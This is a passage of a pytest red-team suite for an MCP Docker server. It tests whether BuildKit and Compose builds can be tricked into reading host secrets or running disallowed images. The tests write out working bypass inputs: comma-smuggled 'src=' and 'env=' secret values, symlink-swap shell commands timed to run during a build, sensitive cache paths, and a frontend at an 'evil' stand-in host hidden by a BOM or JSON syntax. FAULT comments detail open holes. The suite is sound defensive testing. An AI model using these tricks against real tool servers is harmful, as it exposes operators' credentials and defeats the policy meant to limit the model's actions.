"""Red-team findings, third pass: BuildKit builds (build-image secrets, caches, frontends),
Compose builds, compose-stack watch and kubernetes-export, on the real engine through the
official MCP client. Each test asserts the behaviour the README promises; a failing test names a
fault (its first comment line says which, FAULT for a hole, BLOCKED for an attack that was
tried and is refused). Canaries live under the test's own tmp folder (made "sensitive" by the
test's policy), never in a real system folder; everything a test makes is removed by it."""

from __future__ import annotations

import contextlib
import io
import os
import tarfile
import time
import uuid
from collections.abc import AsyncIterator, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import anyio
import docker
import pytest
from mcp import Client

from mcp_docker_server.policy import Policy
from mcp_docker_server.server import build_server
from tests.conftest import LABEL_KEY, RUN_ID, accept_all, env, error_text, labelled, ok, settings_for, text_of

pytestmark = [pytest.mark.anyio, pytest.mark.docker]

CANARY = f"mcpd-rt3-canary-{RUN_ID}"
SERVER_VARIABLE = "MCPD_RT3_SERVER_SECRET"  # a server variable no allowlist names


def _short() -> str:
    return uuid.uuid4().hex[:8]


@pytest.fixture(autouse=True)
def buildx_installed() -> None:
    """The BuildKit attacks need buildx where the docker CLI finds it (scripts/test-engine.sh)."""
    if not env("MCPD_TEST_BUILDX", ""):
        pytest.fail("no buildx >= 0.17: scripts/test-engine.sh up links the current suite's buildx")


@pytest.fixture(autouse=True)
def _remove_what_a_fault_made(docker_client: docker.DockerClient) -> Iterator[None]:
    yield
    for container in labelled(docker_client):
        container.remove(force=True)


@pytest.fixture
def images(docker_client: docker.DockerClient) -> Iterator[list[str]]:
    """Image references a test makes (or a fault might make), removed afterwards."""
    made: list[str] = []
    yield made
    for ref in made:
        with contextlib.suppress(docker.errors.ImageNotFound, docker.errors.APIError):
            docker_client.images.remove(ref, force=True)


@pytest.fixture
def projects(docker_client: docker.DockerClient) -> Iterator[list[str]]:
    """Compose projects a test names, taken down afterwards (containers and networks)."""
    names: list[str] = []
    yield names
    for project in names:
        label = f"com.docker.compose.project={project}"
        for container in docker_client.containers.list(all=True, filters={"label": label}):
            container.remove(force=True)
        for network in docker_client.networks.list(filters={"label": label}):
            with contextlib.suppress(docker.errors.APIError):
                network.remove()


@pytest.fixture
def private(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder standing for a host secret (an /etc, a ~/.aws): the test's policy lists it in
    ``sensitive_paths``, so the host-path rule must keep every build and read out of it. It is
    beside the test's tmp_path, not in it (a project folder holding it would be refused whole)."""
    folder = tmp_path_factory.mktemp("private")
    (folder / "secret.txt").write_text(CANARY)
    (folder / "app.env").write_text(f"RT3_LEAK={CANARY}\n")
    (folder / "app.labels").write_text(f"rt3.leak={CANARY}\n")
    return folder


def guarded(private: Path, **extra: Any) -> Policy:
    base = Policy()
    return replace(base, sensitive_paths=(*base.sensitive_paths, str(private)), **extra)


@contextlib.asynccontextmanager
async def server(unix_host: str, policy: Policy) -> AsyncIterator[Client]:
    async with Client(
        build_server(settings_for(unix_host), policy=policy), elicitation_callback=accept_all
    ) as mcp_client:
        yield mcp_client


def file_in_image(docker_client: docker.DockerClient, image: str, path: str) -> str:
    """A file of an image, read by a throwaway (labelled) container; "" when there is none."""
    output = docker_client.containers.run(
        image, ["sh", "-c", f"cat {path} 2>/dev/null; true"], remove=True, labels={LABEL_KEY: RUN_ID}
    )
    return output.decode(errors="replace") if isinstance(output, bytes) else str(output)


def secret_dockerfile(image: str, secret_id: str = "s") -> str:
    """A Dockerfile that copies secret ``secret_id`` into /leak; its own ENV line keeps BuildKit
    from reusing another test's step (a secret's value is not part of the cache key)."""
    return (
        f"FROM {image}\nENV RT3_NONCE={_short()}\n"
        f"RUN --mount=type=secret,id={secret_id} cat /run/secrets/{secret_id} > /leak; true\n"
    )


# --------------------------------------------------------------------------- build-image: secrets


async def test_blocked_a_secret_file_in_a_sensitive_folder_by_any_spelling(
    unix_host: str, tmp_path: Path, private: Path, test_image: str
) -> None:
    # BLOCKED: a secret naming the sensitive file directly, through `..`, through a symlink in
    # the context, or an absolute path, is refused by the host-path rule before any work.
    context = tmp_path / "ctx"
    context.mkdir()
    (context / "Dockerfile").write_text(secret_dockerfile(test_image))
    (context / "link").symlink_to(private / "secret.txt")
    (context / "dirlink").symlink_to(private)
    spellings = [
        str(private / "secret.txt"),
        os.path.relpath(private / "secret.txt", context),
        "link",
        "dirlink/secret.txt",
        "./../ctx/" + os.path.relpath(private, context) + "//secret.txt",
    ]
    async with server(unix_host, guarded(private)) as c:
        for source in spellings:
            result = await c.call_tool(
                "build-image",
                {"path": str(context), "tag": f"mcpd-rt3-s:{_short()}", "secrets": {"s": source}},
            )
            assert "sensitive-bind" in error_text(result), source
            assert CANARY not in text_of(result)
        # A home-relative secret, a Dockerfile in the folder, a context that is a link to it.
        (private / "Dockerfile").write_text(f"FROM {test_image}\nCOPY . /\n")
        (tmp_path / "ctxlink").symlink_to(private)
        calls: list[dict[str, Any]] = [
            {"path": str(context), "secrets": {"s": "~/.ssh/id_ed25519"}},
            {"path": str(context), "dockerfile": str(private / "Dockerfile")},
            {"path": str(context), "dockerfile": "dirlink/Dockerfile"},
            {"path": str(tmp_path / "ctxlink")},
            {"path": str(context), "cache_from": ["type=local,src=dirlink"]},
        ]
        for call in calls:
            result = await c.call_tool("build-image", {"tag": f"mcpd-rt3-s:{_short()}", **call})
            assert "Denied by policy rule" in error_text(result), call
            assert CANARY not in text_of(result)


async def test_a_secret_file_path_cannot_smuggle_a_second_source_with_a_comma(
    unix_host: str,
    tmp_path: Path,
    private: Path,
    test_image: str,
    images: list[str],
    docker_client: docker.DockerClient,
) -> None:
    # FAULT: tools/builds.py _secrets judges the file "<ctx>/a,src=<private>/secret.txt" (a real
    # file in the context), and buildx/argv.py writes it unquoted into `--secret
    # id=s,src=<ctx>/a,src=<private>/secret.txt`; buildx reads that as CSV, the last src wins,
    # and the sensitive host file is read into the build (here copied into the image).
    context = tmp_path / "ctx"
    decoy = context / "a,src=" / str(private / "secret.txt").lstrip("/")
    decoy.parent.mkdir(parents=True)
    decoy.write_text("decoy")
    (context / ".dockerignore").write_text("a,src=\n")  # the secret is not sent as context
    (context / "Dockerfile").write_text(secret_dockerfile(test_image))
    tag = f"mcpd-rt3-secret-src:{_short()}"
    images.append(tag)
    source = "a,src=" + str(private / "secret.txt")
    async with server(unix_host, guarded(private)) as c:
        result = await c.call_tool(
            "build-image", {"path": str(context), "tag": tag, "secrets": {"s": source}, "no_cache": True}
        )
    if result.is_error:
        assert "secret-files" not in text_of(result)  # (the set-up is right: only the path is judged)
        return  # refused: the comma (or the path) was not handed to buildx
    leaked = file_in_image(docker_client, tag, "/leak")
    assert CANARY not in leaked, f"the build read {private}/secret.txt through the secret {source!r}"


async def test_a_secret_file_path_cannot_smuggle_a_server_variable_with_a_comma(
    unix_host: str,
    tmp_path: Path,
    test_image: str,
    images: list[str],
    docker_client: docker.DockerClient,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # FAULT: a context file named "x,env=VAR" passes as a secret file; buildx reads
    # `--secret id=s,src=<ctx>/x,env=VAR` as both, and env wins: any variable of the server's
    # environment (cloud keys, tokens) reaches the build without secret_env_allowlist.
    monkeypatch.setenv(SERVER_VARIABLE, CANARY)
    context = tmp_path / "ctx"
    context.mkdir()
    (context / "x").write_text("decoy")
    (context / f"x,env={SERVER_VARIABLE}").write_text("decoy")
    (context / "Dockerfile").write_text(secret_dockerfile(test_image))
    tag = f"mcpd-rt3-secret-env:{_short()}"
    images.append(tag)
    async with server(unix_host, Policy()) as c:
        # The straight way is refused (the variable is in no allowlist)...
        direct = await c.call_tool(
            "build-image",
            {"path": str(context), "tag": tag, "secrets": {"s": f"env:{SERVER_VARIABLE}"}},
        )
        assert "secret-env" in error_text(direct)
        # ...and the smuggled way must be too.
        result = await c.call_tool(
            "build-image",
            {
                "path": str(context),
                "tag": tag,
                "secrets": {"s": f"x,env={SERVER_VARIABLE}"},
                "no_cache": True,
            },
        )
    if result.is_error:
        assert "secret-files" not in text_of(result)  # (the set-up is right: only the path is judged)
        return
    leaked = file_in_image(docker_client, tag, "/leak")
    assert CANARY not in leaked, f"the build read the server variable {SERVER_VARIABLE}"


async def test_a_secret_file_swapped_for_a_link_during_the_build_is_not_followed(
    unix_host: str,
    tmp_path: Path,
    private: Path,
    test_image: str,
    images: list[str],
    docker_client: docker.DockerClient,
) -> None:
    # FAULT: tools/builds.py _secrets judges the secret file and hands buildx its path; buildx
    # reads it only when a step mounts the secret (os.ReadFile, following links). A container
    # that binds the secret's (allowed) folder replaces the file with a link to a sensitive one
    # meanwhile, and the build reads that. Suggested: read the judged file (O_NOFOLLOW) into a
    # private 0600 copy, or pass its bytes through buildx's environment (env=), before buildx starts.
    context, shared = tmp_path / "ctx", tmp_path / "shared"
    context.mkdir()
    shared.mkdir()
    (shared / "token").write_text("decoy")
    (context / "Dockerfile").write_text(
        f"FROM {test_image}\nENV RT3_NONCE={_short()}\nRUN sleep 6\n"
        "RUN --mount=type=secret,id=s cat /run/secrets/s > /leak; true\n"
    )
    tag = f"mcpd-rt3-swap:{_short()}"
    images.append(tag)
    async with server(unix_host, guarded(private)) as c:
        swapper = ok(
            await c.call_tool(
                "run-container",
                {
                    "image": test_image,
                    "command": ["sh", "-c", f"sleep 3; rm /w/token; ln -s {private}/secret.txt /w/token"],
                    "volumes": [{"host_path": str(shared), "container_path": "/w"}],
                    "labels": {LABEL_KEY: RUN_ID},
                },
            )
        )
        result = await c.call_tool(
            "build-image", {"path": str(context), "tag": tag, "secrets": {"s": "../shared/token"}}
        )
    assert docker_client.containers.get(swapper["id"]).wait(timeout=30)["StatusCode"] == 0
    assert (shared / "token").is_symlink()  # the swap happened while the build ran
    if result.is_error:
        assert CANARY not in text_of(result)
        return
    leaked = file_in_image(docker_client, tag, "/leak")
    assert CANARY not in leaked, "the build followed a link swapped in after the secret was judged"


async def test_blocked_the_servers_own_secrets_and_unlisted_variables(
    unix_host: str, tmp_path: Path, test_image: str
) -> None:
    # BLOCKED: env:REGISTRY_PASSWORD and env:MCP_DOCKER_HTTP_TOKEN are refused even when the
    # operator lists them; an unlisted variable is refused; padding does not change the name.
    (tmp_path / "Dockerfile").write_text(secret_dockerfile(test_image))
    policy = replace(Policy(), secret_env_allowlist=("REGISTRY_PASSWORD", "MCP_DOCKER_HTTP_TOKEN"))
    async with server(unix_host, policy) as c:
        for source in ("env:REGISTRY_PASSWORD", "env: MCP_DOCKER_HTTP_TOKEN ", "env:HOME", "env:PATH,src=/"):
            result = await c.call_tool(
                "build-image",
                {"path": str(tmp_path), "tag": f"mcpd-rt3-e:{_short()}", "secrets": {"s": source}},
            )
            text = error_text(result)
            assert "secret-env" in text or "is not an environment variable name" in text, source


@pytest.mark.parametrize(
    "step",
    [
        "COPY dirlink/ /leak-dir/",
        "COPY link /leak",
        "ADD {private}/secret.txt /leak",
        "RUN --mount=type=bind,source=dirlink,target=/m cat /m/secret.txt > /leak; true",
        "RUN --mount=type=bind,source={private},target=/m cat /m/secret.txt > /leak; true",
    ],
)
async def test_blocked_dockerfile_steps_cannot_reach_through_context_links(
    unix_host: str,
    tmp_path: Path,
    private: Path,
    test_image: str,
    images: list[str],
    docker_client: docker.DockerClient,
    step: str,
) -> None:
    # BLOCKED: links in the context (to a sensitive file and folder) are sent as links, and
    # BuildKit resolves COPY/ADD/bind sources inside the context only: nothing of the folder
    # reaches the image (the build fails or copies a dangling link).
    context = tmp_path / "ctx"
    context.mkdir()
    (context / "link").symlink_to(private / "secret.txt")
    (context / "dirlink").symlink_to(private)
    (context / "Dockerfile").write_text(
        f"FROM {test_image}\nENV RT3_NONCE={_short()}\n{step.format(private=private)}\n"
    )
    tag = f"mcpd-rt3-links:{_short()}"
    images.append(tag)
    async with server(unix_host, guarded(private)) as c:
        result = await c.call_tool("build-image", {"path": str(context), "tag": tag})
    assert CANARY not in str(result.content)
    if not result.is_error:
        found = file_in_image(docker_client, tag, "/leak /leak-dir/secret.txt")
        assert CANARY not in found


# --------------------------------------------------------------------------- build-image: reach


async def test_blocked_ssh_host_network_and_foreign_cache_backends(
    client: Client, tmp_path: Path, test_image: str
) -> None:
    # BLOCKED: ssh, network host, gha/s3 caches (also spelled in upper case, quoted, or after a
    # first type), and a local cache folder that is sensitive (quoted to hide a comma).
    (tmp_path / "Dockerfile").write_text(f"FROM {test_image}\n")
    base = {"path": str(tmp_path), "tag": f"mcpd-rt3-r:{_short()}"}
    cases: list[tuple[dict[str, Any], str]] = [
        ({"ssh": True}, "build-ssh"),
        ({"network": "host"}, "build-network"),
        ({"cache_from": ["type=gha"]}, "build-cache"),
        ({"cache_from": ["TYPE=S3,region=x"]}, "build-cache"),
        ({"cache_from": ["type=local,type=azblob"]}, "build-cache"),
        ({"cache_from": ['"type=gha",src=/tmp']}, "build-cache"),
        ({"cache_from": ['type=local,"src=/etc"']}, "sensitive-bind"),
        ({"cache_from": ["type=local,src=/tmp/x,src=/root"]}, "sensitive-bind"),
        ({"cache_to": ['type=local,"dest=/var/lib/docker,mode=max"']}, "sensitive-bind"),
    ]
    for extra, rule in cases:
        result = await client.call_tool("build-image", {**base, **extra})
        assert rule in error_text(result), extra


async def test_blocked_a_dockerfile_step_on_the_host_network_without_the_option(
    client: Client, tmp_path: Path, test_image: str, images: list[str]
) -> None:
    # BLOCKED: RUN --network=host without network=host: buildx is not given --allow
    # network.host, so BuildKit refuses the step (the engine's builder would otherwise grant it).
    (tmp_path / "Dockerfile").write_text(f"FROM {test_image}\nRUN --network=host ip addr > /addrs\n")
    tag = f"mcpd-rt3-net:{_short()}"
    images.append(tag)
    result = await client.call_tool("build-image", {"path": str(tmp_path), "tag": tag, "no_cache": True})
    assert "network.host is not allowed" in error_text(result)


# --------------------------------------------------------------------------- build-image: frontends


@pytest.fixture
async def busybox_only(unix_host: str, docker_client: docker.DockerClient) -> AsyncIterator[Client]:
    async with server(unix_host, replace(Policy(), image_allowlist=("busybox:*",))) as c:
        yield c


FRONTEND = "rt3-frontend.invalid/evil/dockerfile:1"


async def test_blocked_a_syntax_directive_naming_a_disallowed_frontend(
    busybox_only: Client, tmp_path: Path, test_image: str
) -> None:
    # BLOCKED: `# syntax=` (any spacing or case) naming an image outside image_allowlist.
    for line in (f"# syntax={FRONTEND}", f"#SYNTAX = {FRONTEND}", f"#!/bin/x\n# syntax={FRONTEND}"):
        (tmp_path / "Dockerfile").write_text(f"{line}\nFROM {test_image}\n")
        result = await busybox_only.call_tool(
            "build-image", {"path": str(tmp_path), "tag": f"busybox:rt3-{_short()}"}
        )
        assert "image-allowlist" in error_text(result), line


@pytest.mark.parametrize(
    ("name", "text", "build_args"),
    [
        ("double-slash directive", f"//syntax={FRONTEND}\nFROM {{image}}\n", {}),
        ("byte-order mark", f"\ufeff# syntax={FRONTEND}\nFROM {{image}}\n", {}),
        ("json directive", f'{{{{"syntax": "{FRONTEND}"}}}}\n', {}),
        ("build arg key with '='", "FROM {image}\n", {f"BUILDKIT_SYNTAX={FRONTEND} x": ""}),
    ],
)
async def test_a_disallowed_frontend_cannot_hide_from_the_allowlist(
    busybox_only: Client, tmp_path: Path, test_image: str, name: str, text: str, build_args: dict[str, str]
) -> None:
    # FAULT: specs/dockerfile.py frontend_image reads only a `#` directive without a BOM and the
    # exact BUILDKIT_SYNTAX key; BuildKit's DetectSyntax also takes `//syntax=`, a BOM, a JSON
    # Dockerfile, and buildx splits "--build-arg BUILDKIT_SYNTAX=<image> x=" at the first '='.
    # The engine then pulls and RUNS the frontend image (it decides what the build does).
    (tmp_path / "Dockerfile").write_text(text.format(image=test_image), encoding="utf-8")
    result = await busybox_only.call_tool(
        "build-image",
        {"path": str(tmp_path), "tag": f"busybox:rt3-{_short()}", "build_args": build_args, "timeout": 120},
    )
    words = error_text(result)
    refused = "image-allowlist" in words or "holds '=' or a space" in words  # refused before any work
    assert refused, f"{name}: the engine was asked for {FRONTEND}: {words}"


# --------------------------------------------------------------------------- allowlist laundering


def marked_image(docker_client: docker.DockerClient, test_image: str, images: list[str]) -> str:
    """An image outside the allowlist with a marker file of its own (/rt3-marker)."""
    ref = f"mcpd-rt3-forbidden-{_short()}:1"
    container = docker_client.containers.create(test_image, ["true"])
    try:
        data = CANARY.encode()
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w") as tar:
            info = tarfile.TarInfo("rt3-marker")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        container.put_archive("/", buffer.getvalue())
        repository, tag = ref.split(":")
        container.commit(repository=repository, tag=tag)
    finally:
        container.remove(force=True)
    images.append(ref)
    return ref


@pytest.mark.parametrize(
    "step",
    [
        "COPY --from={forbidden} /rt3-marker /rt3-marker",
        "RUN --mount=type=bind,from={forbidden},source=/rt3-marker,target=/m cp /m /rt3-marker",
    ],
)
async def test_a_build_cannot_launder_a_disallowed_images_files_into_an_allowed_name(
    busybox_only: Client,
    docker_client: docker.DockerClient,
    test_image: str,
    images: list[str],
    tmp_path: Path,
    step: str,
) -> None:
    # FAULT: tools/builds.py admit_name judges only FROM images (specs/dockerfile.py
    # base_images); COPY --from=<image> and RUN --mount=from=<image> pull in any image's files,
    # and the result gets an allowed name (busybox:...) that run-container then runs.
    forbidden = marked_image(docker_client, test_image, images)
    (tmp_path / "Dockerfile").write_text(f"FROM {test_image}\n{step.format(forbidden=forbidden)}\n")
    built = f"busybox:mcpd-rt3-{_short()}"
    images.append(built)
    build = await busybox_only.call_tool("build-image", {"path": str(tmp_path), "tag": built})
    if build.is_error:
        assert "image-allowlist" in text_of(build)
        return
    run = await busybox_only.call_tool(
        "run-container",
        {"image": built, "command": ["cat", "/rt3-marker"], "detach": False, "labels": {LABEL_KEY: RUN_ID}},
    )
    assert run.is_error, f"{built} (with {forbidden}'s files) ran: {run.structured_content}"
    assert "image-allowlist" in text_of(run)


COMPOSE_BUILD = """\
services:
  app:
    image: {image}
    build:
      context: .
    command: ["sleep", "60"]
    labels:
      {label_key}: "{run}"
"""


async def test_a_compose_build_cannot_launder_a_disallowed_image_into_an_allowed_name(
    busybox_only: Client,
    docker_client: docker.DockerClient,
    test_image: str,
    images: list[str],
    projects: list[str],
    tmp_path: Path,
) -> None:
    # FAULT: compose-stack up builds without judging the Dockerfile's FROM images against
    # image_allowlist (build-image does): `image: busybox:...` names the result, the created
    # container's image name is allowed, and it runs the disallowed image.
    forbidden = marked_image(docker_client, test_image, images)
    built = f"busybox:mcpd-rt3-{_short()}"
    images.append(built)
    (tmp_path / "Dockerfile").write_text(f"FROM {forbidden}\n")
    (tmp_path / "compose.yaml").write_text(COMPOSE_BUILD.format(image=built, label_key=LABEL_KEY, run=RUN_ID))
    project = f"mcpd-rt3-{_short()}"
    projects.append(project)
    result = await busybox_only.call_tool(
        "compose-stack",
        {
            "compose_file": str(tmp_path / "compose.yaml"),
            "action": "up",
            "project_name": project,
            "build": True,
        },
    )
    running = docker_client.containers.list(filters={"label": f"com.docker.compose.project={project}"})
    assert result.is_error, f"{built}, built FROM {forbidden}, runs: {[c.name for c in running]}"
    assert "image-allowlist" in text_of(result)
    assert running == []


async def test_a_compose_build_cannot_use_a_disallowed_frontend(
    busybox_only: Client, test_image: str, projects: list[str], images: list[str], tmp_path: Path
) -> None:
    # FAULT: compose builds never read the Dockerfile's `# syntax=` line (build-image judges it
    # under image_allowlist): the engine is asked to pull and run any frontend image.
    built = f"busybox:mcpd-rt3-{_short()}"
    images.append(built)
    (tmp_path / "Dockerfile").write_text(f"# syntax={FRONTEND}\nFROM {test_image}\n")
    (tmp_path / "compose.yaml").write_text(COMPOSE_BUILD.format(image=built, label_key=LABEL_KEY, run=RUN_ID))
    project = f"mcpd-rt3-{_short()}"
    projects.append(project)
    result = await busybox_only.call_tool(
        "compose-stack",
        {"compose_file": str(tmp_path / "compose.yaml"), "action": "build", "project_name": project},
    )
    words = error_text(result)
    assert "image-allowlist" in words, f"the engine was asked for {FRONTEND}: {words}"


# --------------------------------------------------------------------------- compose builds: secrets


COMPOSE_SECRET = """\
services:
  app:
    image: {image}
    build:
      context: .
      secrets:
        - source: s
          target: "{target}"
secrets:
  s:
    {source}
"""


async def test_blocked_a_compose_secret_from_an_unlisted_variable_or_a_sensitive_file(
    unix_host: str, private: Path, tmp_path: Path, test_image: str, projects: list[str]
) -> None:
    # BLOCKED: top-level secrets with environment: need secret_env_allowlist; a file: in a
    # sensitive folder (directly or through a symlink in the project) is refused.
    (tmp_path / "Dockerfile").write_text(secret_dockerfile(test_image, "t"))
    (tmp_path / "link").symlink_to(private / "secret.txt")
    project = f"mcpd-rt3-{_short()}"
    projects.append(project)
    cases = [
        (f"environment: {SERVER_VARIABLE}", "secret-env"),
        (f"file: {private / 'secret.txt'}", "sensitive-bind"),
        ("file: ./link", "sensitive-bind"),
    ]
    async with server(unix_host, guarded(private)) as c:
        for source, rule in cases:
            text = COMPOSE_SECRET.format(image=f"mcpd-rt3-cs:{_short()}", target="t", source=source)
            (tmp_path / "compose.yaml").write_text(text)
            result = await c.call_tool(
                "compose-stack",
                {"compose_file": str(tmp_path / "compose.yaml"), "action": "build", "project_name": project},
            )
            assert rule in error_text(result), source


async def test_a_compose_build_secret_target_cannot_smuggle_a_server_variable(
    unix_host: str,
    tmp_path: Path,
    test_image: str,
    images: list[str],
    projects: list[str],
    docker_client: docker.DockerClient,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # FAULT: policy/compose.py lets build.secrets[].target through as it is; Compose hands
    # buildx (bake) "id=<target>,type=file,src=<file>", so a target "t,env=VAR" makes the
    # secret read VAR from the server's environment (env wins over src) without
    # secret_env_allowlist.
    monkeypatch.setenv(SERVER_VARIABLE, CANARY)
    (tmp_path / "x").write_text("decoy")
    (tmp_path / "Dockerfile").write_text(secret_dockerfile(test_image, "t"))
    image = f"mcpd-rt3-cs:{_short()}"
    images.append(image)
    (tmp_path / "compose.yaml").write_text(
        COMPOSE_SECRET.format(image=image, target=f"t,env={SERVER_VARIABLE}", source="file: ./x")
    )
    project = f"mcpd-rt3-{_short()}"
    projects.append(project)
    async with server(unix_host, Policy()) as c:  # (made after the variable is set)
        result = await c.call_tool(
            "compose-stack",
            {"compose_file": str(tmp_path / "compose.yaml"), "action": "build", "project_name": project},
        )
    if result.is_error:
        assert "secret-files" not in text_of(result)  # (the set-up is right: only the path is judged)
        return
    leaked = file_in_image(docker_client, image, "/leak")
    assert CANARY not in leaked, f"the Compose build read the server variable {SERVER_VARIABLE}"


async def test_a_compose_secret_file_path_cannot_smuggle_a_sensitive_file(
    unix_host: str,
    private: Path,
    tmp_path: Path,
    test_image: str,
    images: list[str],
    projects: list[str],
    docker_client: docker.DockerClient,
) -> None:
    # FAULT: the judged secret file "<project>/a,src=<private>/secret.txt" goes to buildx as
    # "id=t,type=file,src=<project>/a,src=<private>/secret.txt": the last src (the sensitive
    # file) is read into the build.
    decoy = tmp_path / "a,src=" / str(private / "secret.txt").lstrip("/")
    decoy.parent.mkdir(parents=True)
    decoy.write_text("decoy")
    (tmp_path / "Dockerfile").write_text(secret_dockerfile(test_image, "t"))
    (tmp_path / ".dockerignore").write_text("a,src=\n")
    image = f"mcpd-rt3-cs:{_short()}"
    images.append(image)
    source = f'file: "./a,src={private / "secret.txt"}"'
    (tmp_path / "compose.yaml").write_text(COMPOSE_SECRET.format(image=image, target="t", source=source))
    project = f"mcpd-rt3-{_short()}"
    projects.append(project)
    async with server(unix_host, guarded(private)) as c:
        result = await c.call_tool(
            "compose-stack",
            {"compose_file": str(tmp_path / "compose.yaml"), "action": "build", "project_name": project},
        )
    if result.is_error:
        assert "secret-files" not in text_of(result)  # (the set-up is right: only the path is judged)
        return
    leaked = file_in_image(docker_client, image, "/leak")
    assert CANARY not in leaked, f"the Compose build read {private}/secret.txt"


async def test_a_compose_secret_file_swapped_for_a_link_during_the_build_is_not_followed(
    unix_host: str,
    private: Path,
    tmp_path: Path,
    test_image: str,
    images: list[str],
    projects: list[str],
    docker_client: docker.DockerClient,
) -> None:
    # FAULT: as for build-image, a Compose build secret's file is judged when the project is
    # rendered and read by buildx only when a step mounts it: swapped for a link meanwhile (by a
    # container binding its folder), the sensitive file is read. Suggested: copy the judged
    # files into the private folder the judged compose.json lives in, and point Compose there.
    project_dir, shared = tmp_path / "proj", tmp_path / "shared"
    project_dir.mkdir()
    shared.mkdir()
    (shared / "token").write_text("decoy")
    (project_dir / "Dockerfile").write_text(
        f"FROM {test_image}\nENV RT3_NONCE={_short()}\nRUN sleep 6\n"
        "RUN --mount=type=secret,id=t cat /run/secrets/t > /leak; true\n"
    )
    image = f"mcpd-rt3-cswap:{_short()}"
    images.append(image)
    source = f"file: {shared / 'token'}"
    (project_dir / "compose.yaml").write_text(COMPOSE_SECRET.format(image=image, target="t", source=source))
    project = f"mcpd-rt3-{_short()}"
    projects.append(project)
    async with server(unix_host, guarded(private)) as c:
        swapper = ok(
            await c.call_tool(
                "run-container",
                {
                    "image": test_image,
                    "command": ["sh", "-c", f"sleep 3; rm /w/token; ln -s {private}/secret.txt /w/token"],
                    "volumes": [{"host_path": str(shared), "container_path": "/w"}],
                    "labels": {LABEL_KEY: RUN_ID},
                },
            )
        )
        result = await c.call_tool(
            "compose-stack",
            {"compose_file": str(project_dir / "compose.yaml"), "action": "build", "project_name": project},
        )
    assert docker_client.containers.get(swapper["id"]).wait(timeout=30)["StatusCode"] == 0
    assert (shared / "token").is_symlink()
    if result.is_error:
        assert CANARY not in text_of(result)
        return
    leaked = file_in_image(docker_client, image, "/leak")
    assert CANARY not in leaked, "the Compose build followed a link swapped in after the secret was judged"


SWAP_PROJECT = """\
services:
  swap:
    image: {image}
    command: ["sh", "-c", "rm -r /w/data && ln -s {private} /w/data"]
    volumes: ["{shared}:/w"]
    labels:
      {label_key}: "{run}"
  reader:
    image: {image}
    command: ["sleep", "60"]
    volumes: ["{shared}/data:/data"]
    labels:
      {label_key}: "{run}"
    depends_on:
      swap:
        condition: service_completed_successfully
"""


async def test_a_bind_source_swapped_for_a_link_before_its_container_starts_is_not_followed(
    unix_host: str,
    private: Path,
    tmp_path: Path,
    test_image: str,
    projects: list[str],
    docker_client: docker.DockerClient,
) -> None:
    # FAULT: compose-stack up judges the bind sources (resolved) and the created containers,
    # then starts them in dependency order; the engine resolves a bind source when it STARTS
    # the container. A first one-shot service (binding the allowed parent folder) replaces the
    # folder with a link to a sensitive one, and the next service mounts that. The README's
    # "swapping a symlink after the check changes nothing" holds for a link that exists when
    # judged, not for one made between the judgement and the start. Suggested: start services
    # one at a time and judge each container's mounts as the engine reports them after start
    # (Mounts[].Source resolved), stopping it otherwise; or refuse projects whose services
    # bind a folder that another service's bind contains.
    shared = tmp_path / "shared"
    (shared / "data").mkdir(parents=True)
    (shared / "data" / "ok.txt").write_text("ok")
    (tmp_path / "compose.yaml").write_text(
        SWAP_PROJECT.format(image=test_image, private=private, shared=shared, label_key=LABEL_KEY, run=RUN_ID)
    )
    project = f"mcpd-rt3-{_short()}"
    projects.append(project)
    async with server(unix_host, guarded(private)) as c:
        result = await c.call_tool(
            "compose-stack",
            {"compose_file": str(tmp_path / "compose.yaml"), "action": "up", "project_name": project},
        )
    if result.is_error:  # refused before any container started: a bind inside another's writable one
        assert "nested-bind" in text_of(result)
        assert CANARY not in text_of(result)
        assert not (shared / "data").is_symlink()
        return
    label = "com.docker.compose.service=reader"
    (reader,) = docker_client.containers.list(
        filters={"label": [f"com.docker.compose.project={project}", label]}
    )
    _, output = reader.exec_run(["sh", "-c", "cat /data/secret.txt 2>/dev/null"])
    assert CANARY.encode() not in output, f"the reader service mounted {private}"


async def test_blocked_a_bind_source_swapped_for_a_link_before_a_restart(
    unix_host: str, private: Path, tmp_path: Path, test_image: str, docker_client: docker.DockerClient
) -> None:
    # BLOCKED: the same swap between run-container and manage-container start: the start judges
    # the existing container again, resolving its bind source now (a link to the sensitive folder).
    shared = tmp_path / "shared"
    (shared / "data").mkdir(parents=True)
    async with server(unix_host, guarded(private)) as c:
        first = ok(
            await c.call_tool(
                "run-container",
                {
                    "image": test_image,
                    "command": ["sh", "-c", "cat /data/secret.txt 2>/dev/null; true"],
                    "volumes": [{"host_path": str(shared / "data"), "container_path": "/data"}],
                    "detach": False,
                    "labels": {LABEL_KEY: RUN_ID},
                },
            )
        )
        swapper = await c.call_tool(
            "run-container",
            {
                "image": test_image,
                "command": ["sh", "-c", f"rm -r /w/data && ln -s {private} /w/data"],
                "volumes": [{"host_path": str(shared), "container_path": "/w"}],
                "detach": False,
                "auto_remove": True,
                "labels": {LABEL_KEY: RUN_ID},
            },
        )
        if swapper.is_error:  # refused now: its writable bind holds the first one's bind source
            assert "nested-bind" in text_of(swapper)
            docker_client.containers.get(first["id"]).remove(force=True)
            return
        assert (shared / "data").is_symlink()
        started = await c.call_tool("manage-container", {"container_id": first["id"], "action": "start"})
        assert "sensitive-bind" in error_text(started)
    assert CANARY.encode() not in docker_client.containers.get(first["id"]).logs()


async def test_a_bind_source_swapped_for_a_link_is_not_followed_by_an_engine_restart(
    unix_host: str, private: Path, tmp_path: Path, test_image: str, docker_client: docker.DockerClient
) -> None:
    # FAULT: a container with a restart policy is started again by the engine itself, which
    # resolves its bind sources again; swapped for a link meanwhile (by a second container that
    # binds the allowed parent folder), the sensitive folder is mounted with no judgement. The
    # judge ran once, at creation. Suggested: a "nested writable bind" rule in the path judge
    # (refuse a bind whose source lies inside, or contains, the source of a writable bind of
    # any container on the engine), since whoever can write a bound folder can plant links
    # that any later start (engine restart, Compose dependency order) follows.
    shared = tmp_path / "shared"
    (shared / "data").mkdir(parents=True)
    async with server(unix_host, guarded(private)) as c:
        first = ok(
            await c.call_tool(
                "run-container",
                {
                    "image": test_image,
                    "command": ["sh", "-c", "cat /data/secret.txt 2>/dev/null; sleep 2; exit 1"],
